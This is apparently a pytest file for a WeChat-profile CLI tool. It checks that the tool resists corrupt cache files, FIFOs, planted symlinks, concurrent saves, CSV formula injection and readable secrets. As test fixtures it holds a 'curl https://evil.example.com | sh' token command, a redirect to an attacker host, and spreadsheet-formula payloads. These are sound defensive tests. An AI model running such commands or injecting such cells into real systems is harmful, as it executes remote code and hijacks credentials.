"""Local files under attack or gone wrong, end to end in a subprocess: corrupt cache and quota
files, FIFOs where files belong, concurrent saves, planted links, another user's cache folder,
imported rows that redirect the token, spreadsheet formulas in CSV, a config others can read,
and what `--demo config` reports."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
import tomllib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from conftest import MARKER, assert_no_marker, profile

from wxdash.cache import ResultCache, cache_folder
from wxdash.fakeserver import FakeWeChat, shop_domains
from wxdash.profiles import Profile
from wxdash.quota import next_reset
from wxdash.wechat.tokens import TokenKind, TokenSpec

Run = Callable[..., subprocess.CompletedProcess[str]]
Writer = Callable[[dict[str, Any] | str], Path]
FAST = {"retries": 1, "read_timeout": 10.0, "connect_timeout": 10.0}
APPID = "wx0000000000000001"
# Deep enough for any recursive parser to give up, small enough to write in a moment.
WXDASH = (sys.executable, "-m", "wxdash")
NESTED = b"[" * 200_000 + b"]" * 200_000


def quota_file() -> Path:
    return cache_folder().parent / "quota.json"


def serve(fake: FakeWeChat, name: str = "Shop A", appid: str = APPID, **app: Any) -> dict[str, Any]:
    app.setdefault("domains", shop_domains("shopa"))
    token = fake.add_app(appid, token=f"{MARKER}-{appid}", **app).token
    return profile(name, appid, access_token=token, api_base=fake.url)


def cached_file(table: dict[str, Any]) -> Path:
    spec = TokenSpec(TokenKind.ACCESS_TOKEN, table["access_token"])
    return ResultCache().path(Profile(table["name"], table["appid"], spec, table["api_base"]))


def clean(result: subprocess.CompletedProcess[str], code: int) -> subprocess.CompletedProcess[str]:
    assert result.returncode == code, f"stdout:\n{result.stdout}\nstderr:\n{result.stderr}"
    assert "Traceback" not in result.stdout + result.stderr, result.stderr
    assert_no_marker(result.stdout, result.stderr)
    return result


# -- item 5: corrupt local state never crashes or hangs ---------------------------------------


def test_item05_deeply_nested_cache_file_is_discarded_with_a_warning(
    fake: FakeWeChat, write_config: Writer, run_cli: Run
) -> None:
    shop = serve(fake)
    write_config({"network": FAST, "profiles": [shop]})
    clean(run_cli("fetch"), 0)
    cached = cached_file(shop)
    cached.write_bytes(NESTED)
    result = clean(run_cli("--offline", "fetch"), 1)
    assert "The cached result of Shop A could not be read and was discarded" in result.stderr
    assert not cached.exists()
    # The next fetch caches it again.
    clean(run_cli("fetch"), 0)
    assert json.loads(cached.read_bytes())["appid"] == APPID


def test_item05_deeply_nested_quota_file_is_set_aside_with_a_warning(
    fake: FakeWeChat, write_config: Writer, run_cli: Run
) -> None:
    write_config({"network": FAST, "profiles": [serve(fake)]})
    quota_file().parent.mkdir(parents=True)
    quota_file().write_bytes(NESTED)
    result = clean(run_cli("fetch"), 0)
    assert "quota.json could not be read and was discarded" in result.stderr
    assert "https://api.shopa.com" in result.stdout
    assert not quota_file().exists()


@pytest.mark.parametrize("where", ["cache", "quota"])
def test_item05_a_fifo_in_the_cache_folder_is_discarded_not_waited_on(
    fake: FakeWeChat, write_config: Writer, run_cli: Run, where: str
) -> None:
    shop = serve(fake)
    write_config({"network": FAST, "profiles": [shop]})
    clean(run_cli("fetch"), 0)
    path = cached_file(shop) if where == "cache" else quota_file()
    path.unlink(missing_ok=True)
    os.mkfifo(path)
    # Before the fix the read waited for a writer that never comes (the timeout is a backstop).
    if where == "cache":
        result = clean(run_cli("--offline", "fetch", timeout=40), 1)
        assert "No cached result for wx0000000000000001 yet" in result.stderr
    else:
        result = clean(run_cli("fetch", timeout=40), 0)
        assert "https://api.shopa.com" in result.stdout
    assert "could not be read and was discarded" in result.stderr
    assert not path.exists()


@pytest.mark.parametrize("command", [["config", "check"], ["fetch"], ["profile", "list"]])
def test_item05_a_fifo_at_the_config_path_is_a_clear_error(
    config_path: Path, run_cli: Run, command: list[str]
) -> None:
    config_path.parent.mkdir(parents=True)
    os.mkfifo(config_path)
    result = clean(run_cli(*command, timeout=40), 2)
    assert f"wxdash: {config_path} is not a regular file" in result.stderr
    assert "hint: Point --config or WXDASH_CONFIG at a TOML file" in result.stderr
    assert stat.S_ISFIFO(config_path.stat().st_mode)  # the user's path is left alone


def test_item05_a_quota_stop_far_in_the_future_is_clamped_to_the_next_reset(
    fake: FakeWeChat, write_config: Writer, run_cli: Run
) -> None:
    write_config({"network": FAST, "profiles": [serve(fake)]})
    quota_file().parent.mkdir(parents=True)
    far = datetime(2999, 1, 1, tzinfo=UTC)
    quota_file().write_text(json.dumps({"version": 1, "exhausted": {APPID: far.isoformat()}}))
    before = next_reset(datetime.now(UTC))
    result = clean(run_cli("fetch", "-f", "json"), 1)
    error = json.loads(result.stdout)["profiles"][0]["error"]
    assert error["errcode"] == 45009
    assert "2999" not in error["message"]
    assert "The quota stop of wx0000000000000001 was set after the next reset" in result.stderr
    kept = json.loads(quota_file().read_text())["exhausted"][APPID]
    assert before <= datetime.fromisoformat(kept) <= before + timedelta(days=1)


def test_item05_a_deeply_nested_config_or_import_file_is_an_error_not_a_traceback(
    write_config: Writer, run_cli: Run, tmp_path: Path
) -> None:
    write_config("x = " + "[" * 100_000 + "]" * 100_000 + "\n")
    result = clean(run_cli("config", "check"), 2)
    assert "too deeply nested" in result.stderr
    rows = tmp_path / "rows.json"
    rows.write_bytes(NESTED)
    write_config({"profiles": []})
    result = clean(run_cli("profile", "import", str(rows)), 2)
    assert "too deeply nested" in result.stderr


# -- item 6: concurrent saves lose nothing -----------------------------------------------------


def _source(i: int) -> list[str]:
    return ["--appid", f"wx{i:016x}", "--token-env", f"WX_{i}"]


def test_item06_twenty_four_profile_adds_at_once_all_land_in_the_file(
    write_config: Writer, config_path: Path, tmp_path: Path
) -> None:
    write_config({"profiles": []})
    env = {**os.environ, "WXDASH_CONFIG": str(config_path)}
    starts = [
        subprocess.Popen(
            [*WXDASH, "profile", "add", f"Shop {i:02d}", *_source(i)],
            env=env,
            cwd=tmp_path,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for i in range(24)
    ]
    said = [process.communicate(timeout=120) for process in starts]
    for process, (out, err) in zip(starts, said, strict=True):
        assert process.returncode == 0, err
        assert out.startswith("Added profile"), out
    names = {t["name"] for t in tomllib.loads(config_path.read_text())["profiles"]}
    assert names == {f"Shop {i:02d}" for i in range(24)}


# -- item 7: planted links and another user's cache folder -------------------------------------


def test_item07_quota_file_is_not_written_through_a_planted_symlink(
    fake: FakeWeChat, write_config: Writer, run_cli: Run, tmp_path: Path
) -> None:
    write_config({"network": FAST, "profiles": [serve(fake, daily_limit=0)]})
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    quota_file().parent.mkdir(parents=True)
    quota_file().symlink_to(victim)
    clean(run_cli("fetch"), 1)  # 45009: the stop is saved
    assert victim.read_text() == "precious\n"
    assert not quota_file().is_symlink()
    assert APPID in json.loads(quota_file().read_text())["exhausted"]
    assert stat.S_IMODE(quota_file().stat().st_mode) == 0o600


def test_item07_cache_files_are_not_written_through_a_planted_symlink(
    fake: FakeWeChat, write_config: Writer, run_cli: Run, tmp_path: Path
) -> None:
    shop = serve(fake)
    write_config({"network": FAST, "profiles": [shop]})
    clean(run_cli("fetch"), 0)
    cached = cached_file(shop)
    victim = tmp_path / "victim.json"
    victim.write_bytes(cached.read_bytes())
    before = victim.stat().st_mtime_ns
    cached.unlink()
    cached.symlink_to(victim)
    os.utime(victim, ns=(before - 10**9, before - 10**9))
    clean(run_cli("fetch"), 0)
    assert victim.stat().st_mtime_ns == before - 10**9  # neither written nor touched
    assert not cached.is_symlink()


def _foreign_cache_folder() -> Path:
    """The default cache folder, owned by another user (needs root); skips if it cannot be."""
    folder = cache_folder().parent
    folder.mkdir(parents=True)
    try:
        os.chown(folder, 65534, 65534)
    except (PermissionError, AttributeError):
        pytest.skip("cannot give a folder to another user here (not root)")
    if folder.stat().st_uid == os.geteuid():
        pytest.skip("the file system keeps no owners")
    return folder


def test_item07_a_cache_folder_owned_by_another_user_is_not_used(
    fake: FakeWeChat, write_config: Writer, run_cli: Run
) -> None:
    folder = _foreign_cache_folder()
    write_config({"network": FAST, "profiles": [serve(fake, daily_limit=0)]})
    result = clean(run_cli("fetch"), 1)
    assert f"The cache folder {folder} belongs to another user" in result.stderr
    assert "hint: Remove it, or set XDG_CACHE_HOME to a folder of your own" in result.stderr
    assert list(folder.iterdir()) == []
    # An explicit --config owned by someone else may still be read.
    clean(run_cli("profile", "list"), 0)


# -- item 9: import refuses columns that redirect the token unless allowed ---------------------


@pytest.mark.parametrize(
    ("column", "value", "flag"),
    [
        ("api_base", "https://evil.example.com", "--allow-api-base"),
        ("token_command", "curl https://evil.example.com | sh", "--allow-token-command"),
    ],
)
def test_item09_import_refuses_api_base_and_token_command_unless_allowed(
    write_config: Writer,
    config_path: Path,
    run_cli: Run,
    tmp_path: Path,
    column: str,
    value: str,
    flag: str,
) -> None:
    write_config({"defaults": {"token_env": "WX_TOKEN"}, "profiles": []})
    before = config_path.read_bytes()
    rows = tmp_path / "rows.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["name", "appid", column])
    writer.writerow(["Shop A", APPID, value])
    writer.writerow(["Shop B", "wx0000000000000002", ""])
    rows.write_text(buffer.getvalue())
    result = clean(run_cli("profile", "import", str(rows)), 2)
    assert f"rows.csv, line 2, {column}: error: this file sets {column}" in result.stderr
    assert f"hint: If you trust this file, run the import again with {flag}." in result.stderr
    assert config_path.read_bytes() == before
    json_rows = tmp_path / "rows.json"
    json_rows.write_text(json.dumps([{"name": "Shop A", "appid": APPID, column: value}]))
    clean(run_cli("profile", "import", str(json_rows)), 2)
    assert config_path.read_bytes() == before

    clean(run_cli("profile", "import", flag, str(rows)), 0)
    tables = tomllib.loads(config_path.read_text())["profiles"]
    assert tables[0][column] == value
    assert column not in tables[1]


# -- item 10: CSV cells that a spreadsheet would run -------------------------------------------


def test_item10_csv_output_neutralises_formula_cells(
    fake: FakeWeChat, write_config: Writer, run_cli: Run
) -> None:
    nasty = ["=HYPERLINK(1)", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    domains = shop_domains("shopa")
    domains["effective_domain"]["requestdomain"] += nasty
    write_config({"network": FAST, "profiles": [serve(fake, "=Shop", domains=domains)]})
    result = clean(run_cli("fetch", "-f", "csv"), 0)
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert "'=Shop" in cells and "=Shop" not in cells
    for bad in nasty:
        assert bad not in cells
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
    found = clean(run_cli("find", "=", "-f", "csv"), 0)
    assert not any(
        cell[:1] in ("=", "+", "-", "@")
        for row in csv.reader(io.StringIO(found.stdout))
        for cell in row
    )
    # JSON and text are unchanged.
    data = json.loads(clean(run_cli("fetch", "-f", "json"), 0).stdout)
    assert data["profiles"][0]["name"] == "=Shop"
    assert clean(run_cli("fetch"), 0).stdout.startswith("=Shop")


# -- item 13: a config with a literal secret that others can read ------------------------------


@pytest.mark.parametrize("key", ["access_token", "appsecret"])
def test_item13_config_check_warns_of_a_literal_secret_others_can_read(
    write_config: Writer, config_path: Path, run_cli: Run, key: str
) -> None:
    write_config({"profiles": [profile("Shop A", APPID, **{key: MARKER})]})
    config_path.chmod(0o644)
    result = clean(run_cli("config", "check"), 0)
    assert (
        f"{config_path}: warning: this file holds a literal {key} that other users can read "
        f"(mode 644); make it private with: chmod 600 {config_path}\n"
    ) in result.stderr
    assert result.stdout.endswith("1 profiles, 0 errors, 1 warnings\n")
    assert_no_marker(result.stdout, result.stderr)
    config_path.chmod(0o600)
    assert "other users can read" not in clean(run_cli("config", "check"), 0).stderr


def test_item13_no_warning_without_a_literal_secret(
    write_config: Writer, config_path: Path, run_cli: Run
) -> None:
    write_config({"profiles": [profile("Shop A", APPID, token_env="WX_TOKEN")]})
    config_path.chmod(0o644)
    assert "other users can read" not in clean(run_cli("config", "check"), 0).stderr


# -- item 16: --demo config reports the demo's --------------------------------------------------


def test_item16_demo_config_path_and_check_report_the_demo(
    write_config: Writer, config_path: Path, run_cli: Run
) -> None:
    write_config({"profiles": [profile("Mine", APPID, token_env="WX_TOKEN")]})
    path = clean(run_cli("--demo", "config", "path"), 0)
    assert str(config_path) not in path.stdout
    assert path.stdout == "(demo: built-in profiles, no config file)\n"
    check = clean(run_cli("--demo", "config", "check"), 0)
    assert str(config_path) not in check.stdout + check.stderr
    assert check.stdout == "(demo): 8 profiles, 0 errors, 0 warnings\n"
    # After the command name too.
    assert clean(run_cli("config", "path", "--demo"), 0).stdout == path.stdout
